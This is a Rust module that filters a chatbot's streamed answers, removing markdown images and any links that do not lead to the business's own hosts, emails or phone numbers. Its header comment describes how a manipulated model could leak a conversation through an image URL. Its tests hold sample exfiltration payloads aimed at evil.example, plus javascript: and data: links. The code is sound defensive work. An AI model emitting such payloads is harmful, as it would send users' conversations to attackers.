//! Links and images of an answer, filtered while it streams.
//!
//! A model that was talked into it could write `![](https://evil.example/?q=everything)`, and a browser that draws it
//! would carry the conversation away. So images are removed, and a link stays one only where it leads to the
//! business: a host, an address or a number that stands in its own texts, or an allowed origin. Any other link becomes
//! its words, any other bare address its host.

use std::collections::BTreeSet;

use super::origin::is_allowed_host;

/// A link that is longer than this is none. So much is held back at most, in characters.
const HOLD_CHARACTERS: usize = 1_000;

/// Where links may lead.
struct Allowed {
    hosts: BTreeSet<String>,
    origins: Vec<String>,
    addresses: BTreeSet<String>,
    /// The texts without the signs that people put between digits.
    numbers: Vec<String>,
}

/// Filters one answer.
pub struct LinkFilter {
    allowed: Allowed,
    held: String,
}

/// What can be said about the beginning of a text.
enum Step {
    /// This many bytes become this.
    Taken(usize, String),
    /// It depends on what follows.
    Wait,
}

impl LinkFilter {
    /// Begins to filter an answer. Links may lead where `texts` lead: the passages that were given to the model, their
    /// pages, and the site's allowed origins.
    pub fn new(texts: &[String]) -> Self {
        let hosts = texts.iter().flat_map(|text| hosts_in(text)).collect();
        let addresses = texts
            .iter()
            .flat_map(|text| text.split(|l: char| l.is_whitespace() || "<>()[]\"',;:".contains(l)))
            .filter(|word| word.contains('@'))
            .map(|word| word.trim_matches('.').to_lowercase())
            .collect();
        let numbers = texts.iter().map(|text| digits_joined(text)).collect();
        Self { allowed: Allowed { hosts, origins: texts.to_vec(), addresses, numbers }, held: String::new() }
    }

    /// Takes more of the answer and gives what can be shown of it. An open link or address is held back.
    pub fn push(&mut self, text: &str) -> String {
        self.held.push_str(text);
        self.run(false)
    }

    /// Gives what is left when the answer is over.
    pub fn finish(&mut self) -> String {
        self.run(true)
    }

    fn run(&mut self, is_final: bool) -> String {
        let held = std::mem::take(&mut self.held);
        let (shown, rest) = self.allowed.filtered(&held, is_final);
        self.held = rest.to_owned();
        shown
    }
}

impl Allowed {
    fn filtered<'a>(&self, text: &'a str, is_final: bool) -> (String, &'a str) {
        let mut shown = String::with_capacity(text.len());
        let mut rest = text;
        while !rest.is_empty() {
            let Step::Taken(length, words) = self.step(rest, is_final) else { break };
            shown.push_str(&words);
            rest = rest.get(length..).unwrap_or_default();
        }
        (shown, rest)
    }

    fn step(&self, text: &str, is_final: bool) -> Step {
        let (image, open) = match text.strip_prefix('!') {
            Some("") if !is_final => return Step::Wait,
            Some(open) if open.starts_with('[') => (true, open),
            _ => (false, text),
        };
        if open.starts_with('[') {
            return self.bracket(text, open, image, is_final);
        }
        let first = text.chars().next().unwrap_or(' ');
        if first.is_whitespace() {
            return Step::Taken(first.len_utf8(), first.to_string());
        }
        self.word(text, is_final)
    }

    /// `[label](target)`, `[label][reference]`, or brackets that are none of these.
    fn bracket(&self, text: &str, open: &str, image: bool, is_final: bool) -> Step {
        let lead = text.len().saturating_sub(open.len());
        let literal = || Step::Taken(lead.saturating_add(1), if image { "![" } else { "[" }.to_owned());
        let label = match closing(open, '[', ']', is_final) {
            Closing::At(label) => label,
            Closing::Unknown => return Step::Wait,
            Closing::Never => return literal(),
        };
        let after = open.get(label.len().saturating_add(2)..).unwrap_or_default();
        let (target, is_target) = match after.chars().next() {
            None if !is_final => return Step::Wait,
            Some('(') => (closing(after, '(', ')', is_final), true),
            Some('[') => (closing(after, '[', ']', is_final), false),
            _ => return literal(),
        };
        let target = match target {
            Closing::At(target) => target,
            Closing::Unknown => return Step::Wait,
            Closing::Never => return literal(),
        };
        let taken = text.len().saturating_sub(after.len()).saturating_add(target.len()).saturating_add(2);
        if image {
            return Step::Taken(taken, String::new());
        }
        let (label, _) = self.filtered(label, true);
        let place = target.split_whitespace().next().unwrap_or_default();
        let place = place.trim_start_matches('<').trim_end_matches('>');
        match self.target(place).filter(|_| is_target) {
            Some(target) => Step::Taken(taken, format!("[{label}]({target})")),
            None => Step::Taken(taken, label),
        }
    }

    /// Letters up to the next space or bracket; a bare address in them is looked at.
    fn word(&self, text: &str, is_final: bool) -> Step {
        let mut end = 0;
        let mut count = 0_usize;
        let mut letters = text.char_indices().peekable();
        let mut is_whole = is_final;
        while let Some((at, letter)) = letters.next() {
            let next = letters.peek().map(|(_, next)| *next);
            let is_image = letter == '!' && next == Some('[') && at > 0;
            if letter.is_whitespace() || letter == '[' || is_image || count >= HOLD_CHARACTERS {
                is_whole = true;
                break;
            }
            count = count.saturating_add(1);
            end = at.saturating_add(letter.len_utf8());
        }
        if !is_whole {
            return Step::Wait;
        }
        Step::Taken(end, self.addresses_checked(text.get(..end).unwrap_or_default()))
    }

    fn addresses_checked(&self, word: &str) -> String {
        let mut shown = String::with_capacity(word.len());
        let mut rest = word;
        while let Some(start) = scheme_start(rest) {
            let (before, address) = rest.split_at_checked(start).unwrap_or((rest, ""));
            let end = address.find(['<', '>', '"', '\'', '`', '|', '{', '}', '^', ')', ']', '*']);
            let (address, after) =
                address.split_at_checked(end.unwrap_or(address.len())).unwrap_or((address, ""));
            let bare = address.trim_end_matches(['.', ',', ';', ':', '!', '?', '…', '»']);
            shown.push_str(before);
            match self.target(bare) {
                Some(_) => shown.push_str(address),
                None => {
                    shown.push_str(&plain(bare));
                    shown.push_str(address.get(bare.len()..).unwrap_or_default());
                }
            }
            rest = after;
        }
        shown.push_str(rest);
        shown
    }

    /// The address to link to, where it leads to the business.
    fn target(&self, place: &str) -> Option<String> {
        let lower = place.to_ascii_lowercase();
        if let Some(address) = lower.strip_prefix("mailto:") {
            let address = address.split('?').next()?;
            return self.addresses.contains(address).then(|| format!("mailto:{address}"));
        }
        if let Some(number) = lower.strip_prefix("tel:") {
            let digits = digits_joined(number);
            let is_number = digits.len() >= 5 && digits.bytes().all(|l| l.is_ascii_digit() || l == b'+');
            let is_known = self.numbers.iter().any(|text| text.contains(&digits));
            return (is_number && is_known).then(|| format!("tel:{digits}"));
        }
        let host = host_of(&lower)?;
        let is_known = self.hosts.contains(host) || is_allowed_host(&self.origins, host);
        (is_known && !place.contains(['(', ')', '\\', '<', '>', '"'])).then(|| place.to_owned())
    }
}

enum Closing<'a> {
    /// What stands between.
    At(&'a str),
    /// Not closed yet.
    Unknown,
    /// Not closed where a link would be.
    Never,
}

/// What stands between a bracket at the start and the one that closes it.
fn closing(text: &str, open: char, close: char, is_final: bool) -> Closing<'_> {
    let mut depth = 0_usize;
    for (count, (at, letter)) in text.char_indices().enumerate() {
        // A target has no line feed in it, and nothing that long is a link.
        if count > HOLD_CHARACTERS || (letter == '\n' && close == ')') {
            return Closing::Never;
        }
        if letter == open {
            depth = depth.saturating_add(1);
        } else if letter == close {
            depth = depth.saturating_sub(1);
            if depth == 0 {
                return text.get(open.len_utf8()..at).map_or(Closing::Never, Closing::At);
            }
        }
    }
    if is_final { Closing::Never } else { Closing::Unknown }
}

/// Where an address begins that a reader could take for a link.
fn scheme_start(word: &str) -> Option<usize> {
    let lower = word.to_ascii_lowercase();
    let with_slashes = lower.find("://").map(|at| {
        let name = lower.get(..at).unwrap_or_default();
        let kept =
            name.trim_end_matches(|letter: char| letter.is_ascii_alphanumeric() || "+-.".contains(letter));
        kept.len()
    });
    [with_slashes, lower.find("mailto:"), lower.find("tel:")].into_iter().flatten().min()
}

/// An address as words: its host, or what follows its scheme, without anything that could carry a message.
fn plain(address: &str) -> String {
    let rest = match address.split_once("://") {
        Some((_, rest)) => rest,
        None => address.split_once(':').map_or(address, |(_, rest)| rest),
    };
    rest.split(['/', '?', '#', '\\']).next().unwrap_or_default().to_owned()
}

/// The host of an `http` or `https` address in lower case; `None` where there is doubt about it.
fn host_of(lower: &str) -> Option<&str> {
    let rest = lower.strip_prefix("https://").or_else(|| lower.strip_prefix("http://"))?;
    let authority = rest.split(['/', '?', '#']).next()?;
    let host = authority.split_once(':').map_or(authority, |(host, _)| host);
    let is_plain = |letter: u8| letter.is_ascii_alphanumeric() || matches!(letter, b'.' | b'-');
    (!host.is_empty() && host.bytes().all(is_plain)).then_some(host)
}

fn hosts_in(text: &str) -> Vec<String> {
    let lower = text.to_ascii_lowercase();
    let starts = lower.match_indices("http").map(|(at, _)| at);
    let ends = |letter: char| letter.is_whitespace() || "<>()[]\"'*|,;".contains(letter);
    starts
        .filter_map(|at| lower.get(at..)?.split(ends).next())
        .filter_map(|address| host_of(address.trim_end_matches(['.', ':', '!', '?'])))
        .map(|host| host.trim_end_matches('.').to_owned())
        .collect()
}

/// A text without the signs that people put between digits.
fn digits_joined(text: &str) -> String {
    text.chars().filter(|letter| !letter.is_whitespace() && !"().-/\u{2011}".contains(*letter)).collect()
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    fn texts() -> Vec<String> {
        [
            "See https://Hotel.example/rooms (or http://docs.example:8080/x). Mail desk@hotel.example, call +33 1 23 45 67 89.",
            "https://*.sub.example",
            "http://localhost:*",
        ]
        .map(str::to_owned)
        .to_vec()
    }

    fn filtered(text: &str) -> String {
        let mut filter = LinkFilter::new(&texts());
        let shown = filter.push(text);
        shown + &filter.finish()
    }

    #[test]
    fn links_to_the_business_stay() {
        for text in [
            "See [our rooms](https://hotel.example/rooms?x=1).",
            "[**bold** [1]](https://hotel.example)",
            "https://hotel.example/a, and http://docs.example/y!",
            "[a](https://www.sub.example/) [b](http://localhost/)",
            "[mail](mailto:desk@hotel.example) [call](tel:+33123456789)",
        ] {
            assert_eq!(filtered(text), text);
        }
    }

    #[test]
    fn images_are_gone() {
        assert_eq!(filtered("a ![x](https://hotel.example/i.png) b"), "a  b");
        assert_eq!(filtered("![](https://evil.example/?q=secret)"), "");
        assert_eq!(
            filtered("[![x](https://evil.example/i)](https://hotel.example)"),
            "[](https://hotel.example)"
        );
        assert_eq!(filtered("hey![x](https://evil.example/i)!"), "hey!");
        assert_eq!(filtered("![x][ref]"), "");
    }

    #[test]
    fn other_links_become_their_words() {
        for (text, expected) in [
            ("[click](https://evil.example/?q=secret) now", "click now"),
            ("[click](<https://evil.example/?q=secret> \"title\")", "click"),
            ("[click](javascript:alert(1))", "click"),
            ("[click](data:text/html,x)", "click"),
            ("[click](//evil.example)", "click"),
            ("[click](/admin)", "click"),
            ("[click][evil]", "click"),
            ("[click](https://hotel.example@evil.example/)", "click"),
            ("[click](https://hotel.example\\@evil.example/)", "click"),
            ("[click](https://hotel.example.evil.example/)", "click"),
            ("[click](https://evilhotel.example/)", "click"),
            ("[click](HTTPS://EVIL.example/)", "click"),
            ("[mail](mailto:a@evil.example?body=secret)", "mail"),
            ("[mail](mailto:desk@hotel.example?body=secret)", "[mail](mailto:desk@hotel.example)"),
            ("[call](tel:+3312345)", "[call](tel:+3312345)"),
            ("[call](tel:+44999)", "call"),
            ("[https://evil.example/x](https://evil.example/?q=1)", "evil.example"),
            ("see https://evil.example/?q=secret.", "see evil.example."),
            ("<https://evil.example/a>", "<evil.example>"),
            ("[x]: https://evil.example/a", "[x]: evil.example"),
            ("ftp://evil.example/a", "evil.example"),
        ] {
            assert_eq!(filtered(text), expected, "{text}");
        }
    }

    #[test]
    fn words_without_links_stay_as_they_are() {
        for text in [
            "Open from 7:30 [note] (mornings)! 5 > 3 * 2",
            "a[0](b",
            "![",
            "[",
            "l’hôtel\n\n- a\n- b",
            "",
            "!",
        ] {
            assert_eq!(filtered(text), text);
        }
    }

    #[test]
    fn an_open_link_is_held_back_and_nothing_before_it() {
        let mut filter = LinkFilter::new(&texts());
        assert_eq!(filter.push("From 7:30, see [the "), "From 7:30, see ");
        assert_eq!(filter.push("page](https://hotel.ex"), "");
        assert_eq!(filter.push("ample/) for "), "[the page](https://hotel.example/) for ");
        assert_eq!(filter.finish(), "");
    }

    #[test]
    fn what_never_closes_is_not_held_for_ever() {
        let long = format!("[{}", "a ".repeat(HOLD_CHARACTERS));
        let mut filter = LinkFilter::new(&texts());
        assert!(filter.push(&long).len() > HOLD_CHARACTERS);
    }

    proptest! {
        #[test]
        fn an_answer_in_pieces_reads_like_the_whole_one(
            parts in proptest::collection::vec(prop_oneof![
                Just("[a]".to_owned()), Just("(https://evil.example/x)".to_owned()), Just("!".to_owned()),
                Just("(https://hotel.example/x)".to_owned()), Just(" ".to_owned()), Just("\n".to_owned()),
                Just("[".to_owned()), Just("](".to_owned()), Just(")".to_owned()), Just("https://evil.example/".to_owned()),
                "[a-zé]{1,4}",
            ], 0..14),
            cuts in proptest::collection::vec(any::<proptest::sample::Index>(), 0..8),
        ) {
            let text = parts.concat();
            let letters: Vec<char> = text.chars().collect();
            let mut at = vec![0, letters.len()];
            at.extend(cuts.iter().filter(|_| !letters.is_empty()).map(|cut| cut.index(letters.len())));
            at.sort_unstable();
            let mut filter = LinkFilter::new(&texts());
            let mut shown = String::new();
            for pair in at.windows(2) {
                shown += &filter.push(&letters[pair[0]..pair[1]].iter().collect::<String>());
            }
            shown += &filter.finish();
            prop_assert_eq!(&shown, &filtered(&text));
            prop_assert!(!shown.contains("https://evil"));
        }

        #[test]
        fn no_text_makes_it_panic(text in "[\\PC\\[\\]()!:/]{0,80}") {
            filtered(&text);
        }
    }
}
